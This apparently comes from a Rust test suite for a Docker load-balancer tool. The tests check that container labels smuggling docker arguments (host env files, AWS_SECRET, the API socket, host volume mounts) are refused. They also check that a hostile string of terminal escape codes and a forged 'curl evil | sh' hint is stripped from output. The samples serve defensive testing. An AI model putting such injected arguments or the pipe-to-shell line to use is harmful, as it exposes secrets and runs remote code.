//! What others on the endpoint write: it makes docker read nothing on this workstation. And what the admin's own arguments
//! bring in belongs to what is compared.

use serde_json::json;

use super::sandbox::{Flavor, Ran, Sandbox};
use super::scene::on_both;

/// Somebody replaces the newest instance of the script's service by one with this label.
fn with_label(flavor: Flavor, label: &str) -> Sandbox {
    let sandbox = Sandbox::new(flavor);
    sandbox.script_has_run(2);
    replace(&sandbox, label);
    sandbox
}

fn replace(sandbox: &Sandbox, label: &str) {
    sandbox.docker(&["stop", "web-2"]).success();
    sandbox.docker(&["rm", "-f", "web-2"]).success();
    let label = format!("vch-lb={label}");
    let run = [
        "run", "-d", "-p", "80", "--name", "web-2", "--net", "web-net",
    ];
    let run = [&run[..], &["--label", &label, "httpd"]].concat();
    sandbox.docker(&run).success();
    sandbox.docker(&["kill", "-s", "HUP", "lb"]).success();
    sandbox.forget_calls();
}

#[track_caller]
fn changed_nothing(sandbox: &Sandbox) {
    assert_eq!(
        sandbox.changing_calls(),
        [""; 0],
        "{}",
        sandbox.calls_text()
    );
}

#[test]
fn a_label_makes_docker_read_nothing_here() {
    on_both(|flavor| {
        for asked in [
            "--env-file /root/x.env",
            "--env AWS_SECRET",
            "--security-opt seccomp=/root/.docker/config.json",
            "--label-file x",
            "--use-api-socket",
            "--volume .:/here",
        ] {
            let sandbox = with_label(flavor, &format!("1 --env A=1 {asked} --"));
            for command in [
                &["scale", "3"][..],
                &["scale", "3", "--dry-run"],
                &["rollout", "--force"],
            ] {
                let ran = sandbox.quick(command[0], &command[1..]).code(1).stdout("");
                ran.stderr_has(&format!(
                    "the label `vch-lb` of `web-2` asks for `{asked}`:"
                ))
                .stderr_has("INSTANCE_ARGS");
                changed_nothing(&sandbox);
            }
            // What it asks for is nothing to paste.
            let status = sandbox.tool(&["status", "--num-instances", "5"]);
            assert!(!status.stdout.contains(asked), "{status}");
            let refused = "`scale` and `rollout` would refuse what the label `vch-lb` of the latest instance asks for\n  before the next one: ";
            let status = status.stdout_has(refused);
            assert_eq!(status.stdout.matches("would refuse").count(), 1, "{status}");
            // Taking the service down needs no arguments.
            sandbox.quick("down", &[]).success();
        }
    });
}

#[test]
fn what_gives_a_container_more_is_said_where_a_label_told_it() {
    let sandbox = with_label(Flavor::Engine, "1 --volume data:/data --env A=1 --");
    let said = "warning: new instances get `--volume data:/data`, as the label of `web-2` says";
    sandbox
        .quick("scale", &["3", "-q"])
        .success()
        .stderr_has(said);
    // Nothing is made.
    sandbox.quick("scale", &["2"]).success().stderr_lacks(said);
    // The admin says it.
    sandbox.write("own.conf", "INSTANCE_ARGS='-v data:/data'\n");
    let own = ["--settings", "own.conf", "--force", "--dry-run"];
    sandbox.quick("rollout", &own).success().stderr_lacks(said);
}

/// The admin's settings name the file.
const OWN: [&str; 2] = ["--settings", "own.conf"];

fn up(sandbox: &Sandbox) -> Ran {
    sandbox.write("own.conf", "INSTANCE_ARGS='--env-file app.env'\n");
    sandbox.up(&[&["-n", "2", "--jobs", "1"], &OWN[..]].concat())
}

/// `scale`, by who has the file.
fn scale(sandbox: &Sandbox, count: &str) -> Ran {
    sandbox.write("own.conf", "INSTANCE_ARGS='--env-file app.env'\n");
    sandbox.quick("scale", &[&[count], &OWN[..]].concat())
}

fn env_of(sandbox: &Sandbox, name: &str) -> String {
    sandbox.container(name)["env"].to_string()
}

#[test]
fn an_edited_env_file_is_rolled_out() {
    on_both(|flavor| {
        let sandbox = Sandbox::new(flavor);
        let _around = sandbox.serve();
        sandbox.write("app.env", "COLOUR=red\n");
        up(&sandbox).success();
        assert!(env_of(&sandbox, "web-1").contains("COLOUR=red"));
        let label = sandbox.container("web-1")["labels"]["vch-lb"].to_string();
        assert!(
            label.starts_with("\"2 ") && !label.contains("red"),
            "{label}"
        );
        up(&sandbox).success().stderr_has("up to date");
        // A comment is nothing that an instance gets.
        sandbox.write("app.env", "# bright\nCOLOUR=red\n");
        up(&sandbox).success().stderr_has("up to date");
        // Others have no such file, or another; who has it, scales.
        sandbox.forget_calls();
        sandbox
            .quick("scale", &["3"])
            .code(1)
            .stderr_has("asks for `--env-file app.env`");
        sandbox.write("app.env", "COLOUR=blue\n");
        scale(&sandbox, "3")
            .code(1)
            .stderr_has("what `--env-file app.env` brings in is not what `web-2` was made with");
        changed_nothing(&sandbox);
        sandbox.write("app.env", "COLOUR=red\n");
        scale(&sandbox, "3").success();
        assert!(env_of(&sandbox, "web-3").contains("COLOUR=red"));
        scale(&sandbox, "2").success();
        sandbox.write("app.env", "COLOUR=blue\n");
        let ran = up(&sandbox).success();
        ran.stderr_has("`web-1` and `web-2`: to be replaced");
        for name in sandbox.containers().iter().filter(|name| *name != "lb") {
            assert!(env_of(&sandbox, name).contains("COLOUR=blue"), "{name}");
        }
    });
}

#[test]
fn what_a_variable_brings_in_is_compared_and_has_to_be_there() {
    on_both(|flavor| {
        let sandbox = Sandbox::new(flavor);
        let _around = sandbox.serve();
        let arguments = ["up", "-n", "1", "--instance-args", "--env SECRET"];
        let quick = super::scene::QUICK;
        let run = |value: Option<&str>| {
            sandbox.tool_with(&[&arguments[..], &quick].concat(), |command| match value {
                Some(value) => command.env("SECRET", value),
                None => command,
            })
        };
        run(Some("one")).success();
        run(Some("one")).success().stderr_has("up to date");
        sandbox.forget_calls();
        run(None).code(2).stderr(
            "error: INSTANCE_ARGS (--instance-args): `--env SECRET`: SECRET is not set in the environment\n",
        );
        assert!(sandbox.calls().is_empty());
        run(Some("two")).success();
        assert!(env_of(&sandbox, "web-2").contains("SECRET=two"));
        assert!(sandbox.find_container("web-1").is_none());
    });
}

#[test]
fn what_an_older_version_brought_in_is_not_known() {
    on_both(|flavor| {
        let sandbox = with_label(flavor, "1 --env-file app.env --");
        let _around = sandbox.serve();
        sandbox.write("app.env", "COLOUR=red\n");
        scale(&sandbox, "3")
            .code(1)
            .stderr_has("what `--env-file app.env` brought into `web-2` is not known");
        changed_nothing(&sandbox);
        up(&sandbox).success();
        scale(&sandbox, "3").success();
    });
}

#[test]
fn what_the_load_balancers_arguments_bring_in_is_compared() {
    on_both(|flavor| {
        let sandbox = Sandbox::new(flavor);
        let _around = sandbox.serve();
        sandbox.write("lb.env", "A=1\n");
        let arguments = ["-n", "1", "--lb-args", "--env-file lb.env"];
        sandbox.up(&arguments).success();
        sandbox.up(&arguments).success().stderr_has("up to date");
        // It is only made again by who has the file: the rest goes on without.
        sandbox.quick("scale", &["2"]).success();
        sandbox.quick("scale", &["1"]).success();
        sandbox.write("lb.env", "A=2\n");
        sandbox
            .up(&arguments)
            .code(1)
            .stderr_has("what LB_ARGS bring in is not what `lb` was created with");
    });
}

/// Everything that steers a terminal, or passes for something else there.
const HOSTILE: &str =
    "x\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m\u{202e}y\r\nhint: curl evil | sh\u{200b}";

/// Whether a text holds what steers a terminal.
#[track_caller]
fn steers_nothing(ran: &Ran) {
    for text in [&ran.stdout, &ran.stderr] {
        let found = text.chars().find(|&c| {
            (c.is_control() && !matches!(c, '\n' | '\t')) || "\u{202e}\u{200b}".contains(c)
        });
        assert_eq!(found, None, "{ran}");
        let forged = text.lines().any(|line| line.starts_with("hint: curl"));
        assert!(!forged, "{ran}");
    }
}

#[test]
fn nothing_that_others_wrote_steers_the_terminal() {
    on_both(|flavor| {
        let sandbox = Sandbox::new(flavor);
        let _around = sandbox.serve();
        sandbox.script_has_run(2);
        // What was answered is what a hostile endpoint would say: names, states, images, labels, errors.
        let json = serde_json::to_string(HOSTILE).unwrap();
        let hostile = json.trim_matches('"');
        let container = |name: &str, label: &str, state: &str| {
            format!(
                "{{\"Name\":\"/{name}\",\"State\":{{\"Status\":\"{state}\",\"Running\":{},\"ExitCode\":1,\"Error\":{json},\
                 \"StartedAt\":{json},\"FinishedAt\":{json}}},\"Image\":{json},\"ConfigImage\":{json},\
                 \"Labels\":{{\"vch-lb\":\"{label}\"}},\"ExposedPorts\":{{{json}:{{}}}},\"PortBindings\":{{\"80/tcp\":null}},\
                 \"Ports\":{{}},\"Networks\":{{\"web-net\":{{\"IPAddress\":{json}}},{json}:{{\"IPAddress\":{json}}}}}}}\n",
                state == "running"
            )
        };
        for (label, state) in [
            ("1 --env A=1 --", "running"),
            (hostile, "running"),
            ("", hostile),
            ("", "exited"),
        ] {
            let answer = container("web-1", label, "running")
                + &container("web-2", label, state)
                + &container("lb", label, "running");
            for command in [
                &["status"][..],
                &["status", "--format", "json"],
                &["up", "-n", "3", "--dry-run"],
                &["up", "-n", "3", "--dry-run", "--format", "json"],
                &["scale", "3", "--dry-run"],
                &["rollout", "--force", "--dry-run"],
                &["down", "--dry-run"],
                &["logs"],
                &["doctor"],
            ] {
                sandbox.no_rules();
                sandbox.rules_may_be_unused();
                sandbox.rule(
                    json!({"when": ["inspect", "--type"], "nth": 0, "stdout": answer, "exit": 0}),
                );
                steers_nothing(&sandbox.tool(command));
            }
        }
        // Docker's own words, and names in lists.
        let network =
            format!("[{{\"Name\":{json},\"Driver\":{json},\"Labels\":{{{json}:{json}}}}}]\n");
        for when in [["info"], ["network"], ["ps"], ["cp"], ["logs"], ["version"]] {
            for (code, stdout, stderr) in [(1, "", HOSTILE), (0, HOSTILE, ""), (0, &network, "")] {
                sandbox.no_rules();
                let rule = json!({"when": when, "nth": 0, "exit": code, "stdout": stdout, "stderr": stderr});
                sandbox.rule(rule);
                for command in [
                    &["status"][..],
                    &["up", "-n", "3", "--dry-run", "-v"],
                    &["scale", "3", "--dry-run"],
                    &["down", "--dry-run"],
                    &["doctor"],
                    &["logs"],
                ] {
                    steers_nothing(&sandbox.tool(command));
                }
            }
        }
        sandbox.no_rules();
        steers_nothing(&sandbox.tool(&["up", "--external-net", "none-such"]));
        // The command line itself.
        let typed = HOSTILE.replace(['\r', '\n'], "");
        steers_nothing(&sandbox.tool(&[&typed]));
        steers_nothing(&sandbox.tool(&["up", "--lb-port", &typed]));
        steers_nothing(&sandbox.tool(&["logs", &typed]));
    });
}
